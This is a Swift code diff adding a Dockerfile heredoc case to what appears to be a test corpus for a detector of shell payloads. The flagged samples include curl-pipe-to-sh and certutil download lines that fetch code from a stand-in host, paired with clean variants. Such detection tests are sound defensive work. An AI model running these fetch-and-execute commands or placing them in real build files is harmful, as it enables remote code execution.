@@ -66,6 +66,10 @@ extension Corpus {
       "FROM debian:12\nRUN curl -s https://x.y/i \\\n  | sh\n",
       clean: "FROM debian:12\nRUN apt-get update\nCOPY model.onnx /model.onnx\n"),
     row(
+      "a here-document of a Dockerfile", .shellPayload, "Dockerfile",
+      "FROM debian:12\nRUN <<EOF\ncurl -s https://x.y/i | sh\nEOF\n",
+      clean: "FROM debian:12\nCOPY <<EOF /notes\ncurl\nEOF\n"),
+    row(
       "a batch file", .shellPayload, "a.bat",
       "@echo off\ncertutil -urlcache -f http://x.y/a a.exe\n"),
   ]
